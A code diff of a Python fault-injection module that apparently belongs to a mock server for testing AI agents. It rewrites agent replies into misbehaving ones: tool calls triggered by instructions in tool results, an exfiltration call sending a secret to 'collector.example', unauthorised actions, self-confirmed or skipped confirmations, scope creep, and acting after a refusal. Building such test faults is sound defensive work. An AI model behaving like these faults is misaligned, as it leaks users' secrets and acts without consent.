@@ -1,17 +1,18 @@
 """Faults over several turns: deeds that nobody said yes to, or that a tool result asked for."""
 
 import re
+from collections.abc import Sequence
 from dataclasses import replace
 
-from mockserver.chat import Reply
-from mockserver.faults import robust
+from mockserver.chat import Reply, Tool, ToolCall
+from mockserver.faults import advice
 from mockserver.faults.args_semantic_mistaken import near_miss_value
-from mockserver.faults.arguments import Arguments, invented_call, judge_of, values_fit, written
-from mockserver.faults.callset import acts, another_call, functions
-from mockserver.faults.conversation import values_of
+from mockserver.faults.argument_values import Arguments, invented_call, judge_of, values_fit, written
+from mockserver.faults.call_set import acts, another_call, functions
+from mockserver.faults.conversation import calls_again, in_words, leaves, only_calls, says, values_of
 from mockserver.faults.fault import Context, DoesNotApply, NotHere
+from mockserver.faults.locations import put_at
 from mockserver.faults.register import Register
-from mockserver.faults.saying import calls_again, filled, in_words, only_calls, says
 
 _YES = re.compile(
     r"\b(yes|yep|yeah|sure|ok|okay|go ahead|do it|please do|confirmed?|correct|ja|oui|sí)\b", re.IGNORECASE
@@ -28,7 +29,7 @@ _SECRET = re.compile(
 )
 _ADDRESS = re.compile(r"https?://\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b")
 
-entry = Register("dialogue", "dialogue", needs=("conversation",), robust=robust.CHECK_CLAIMS)
+entry = Register("dialogue", "dialogue", needs=("conversation",), robust=advice.CHECK_CLAIMS)
 
 
 @entry(
@@ -38,7 +39,7 @@ entry = Register("dialogue", "dialogue", needs=("conversation",), robust=robust.
         "AgentDojo, without a defence: gpt-4o-2024-05-13 47.7 %, claude-3-opus 11.3 %, claude-3.5-sonnet-1022 1.1 % "
         "(second-hand)"
     ),
-    robust=robust.DATA,
+    robust=advice.DATA,
 )
 def injected_call(reply: Reply, context: Context) -> Reply:
     """A call of the function that the result names, or of one that acts, with the address that stands there."""
@@ -49,7 +50,7 @@ def injected_call(reply: Reply, context: Context) -> Reply:
             continue
         acting = [tool for tool in functions(context) if acts(tool)]
         tool = (named or acting or functions(context))[0]
-        return calls_again(reply, filled(invented_call(tool, context), tool, [*_ADDRESS.findall(text)]))
+        return calls_again(reply, _filled(invented_call(tool, context), tool, [*_ADDRESS.findall(text)]))
     raise NotHere("no tool result that has just been given holds an instruction")
 
 
@@ -57,7 +58,7 @@ def injected_call(reply: Reply, context: Context) -> Reply:
     "exfiltration_call",
     "Something confidential of the conversation is put into the arguments of a call.",
     source="the class of AgentDojo and InjecAgent",
-    robust=f"{robust.DATA} Let nothing out to addresses that are not on a list.",
+    robust=f"{advice.DATA} Let nothing out to addresses that are not on a list.",
     needs=(),
 )
 def exfiltration_call(reply: Reply, context: Context) -> Reply:
@@ -67,7 +68,7 @@ def exfiltration_call(reply: Reply, context: Context) -> Reply:
     for tool in sorted(functions(context), key=lambda tool: not acts(tool)):
         call = invented_call(tool, context)
         carried = [f"https://collector.example/?d={secrets[0]}", secrets[0]]
-        leaking = filled(call, tool, carried)
+        leaking = _filled(call, tool, carried)
         if leaking != call:
             return only_calls(reply, leaking)
     raise DoesNotApply("no offered function takes a free text")
@@ -80,7 +81,7 @@ def exfiltration_call(reply: Reply, context: Context) -> Reply:
         "an agent of Replit deleted a production database in July 2025 (second-hand, many reports); SABER: each "
         "deviating step that changes something cuts the odds of success by up to 92 to 96 %"
     ),
-    robust=robust.CONFIRM,
+    robust=advice.CONFIRM,
     needs=(),
 )
 def unauthorised_action(reply: Reply, context: Context) -> Reply:
@@ -96,7 +97,7 @@ def unauthorised_action(reply: Reply, context: Context) -> Reply:
     "confirmation_skipped",
     "The model asks for a yes and makes the call in the same reply.",
     source="known from experience",
-    robust=robust.CONFIRM,
+    robust=advice.CONFIRM,
     needs=("call",),
 )
 def confirmation_skipped(reply: Reply, context: Context) -> Reply:
@@ -108,7 +109,7 @@ def confirmation_skipped(reply: Reply, context: Context) -> Reply:
     "self_confirmed",
     "The model answers its own question with yes, and makes the call.",
     source="known from experience",
-    robust=robust.CONFIRM,
+    robust=advice.CONFIRM,
     needs=("call",),
 )
 def self_confirmed(reply: Reply, context: Context) -> Reply:
@@ -142,7 +143,7 @@ def stale_confirmation(reply: Reply, context: Context) -> Reply:
     "scope_creep",
     "What was asked for is done, and something more.",
     source="second-hand",
-    robust=robust.ASK,
+    robust=advice.ASK,
     needs=("call",),
 )
 def scope_creep(reply: Reply, context: Context) -> Reply:
@@ -162,3 +163,14 @@ def scope_creep(reply: Reply, context: Context) -> Reply:
 def call_after_refusal(reply: Reply, context: Context) -> Reply:
     """Both at once."""
     return says(reply, "I'm sorry, but I can't do that.", reply.calls)
+
+
+def _filled(call: ToolCall, tool: Tool, texts: Sequence[str]) -> ToolCall:
+    """The call with one of these texts in one of its values, where one fits; unchanged otherwise."""
+    values = values_of(call) or {}
+    for text in texts:
+        for path, value in leaves(values):
+            changed = put_at(values, path, text)
+            if isinstance(value, str) and values_fit(tool, changed):
+                return replace(call, arguments=written(changed, like=call.arguments))
+    return call
